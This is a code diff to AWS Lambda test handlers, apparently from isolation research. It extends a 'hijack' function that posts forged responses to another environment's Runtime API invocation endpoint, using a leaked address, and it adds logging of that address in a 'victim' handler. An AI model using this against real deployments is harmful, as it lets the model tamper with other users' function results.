@@ -31,11 +31,13 @@ exports.probe = async (event) => {
   return result;
 };
 
-// Answers an invocation of another environment through this environment's Runtime API.
+// Answers an invocation of another environment through the Runtime API address that environment was given
+// (event.address, as the victim printed it), or through this environment's own.
 exports.hijack = async (event) => new Promise((resolve) => {
+  const address = event.address ?? process.env.AWS_LAMBDA_RUNTIME_API;
   const request = http.request({
-    host: process.env.AWS_LAMBDA_RUNTIME_API.split(':')[0],
-    port: Number(process.env.AWS_LAMBDA_RUNTIME_API.split(':')[1]),
+    host: address.split(':')[0],
+    port: Number(address.split(':')[1]),
     method: 'POST',
     path: `/2018-06-01/runtime/invocation/${event.requestId}/response`,
   }, (response) => { response.resume(); resolve({ status: response.statusCode }); });
@@ -44,6 +46,7 @@ exports.hijack = async (event) => new Promise((resolve) => {
 });
 
 exports.slow = async (event) => {
+  console.log(`runtime-api ${process.env.AWS_LAMBDA_RUNTIME_API}`);
   await new Promise((resolve) => setTimeout(resolve, event.ms ?? 2000));
   return 'mine';
 };
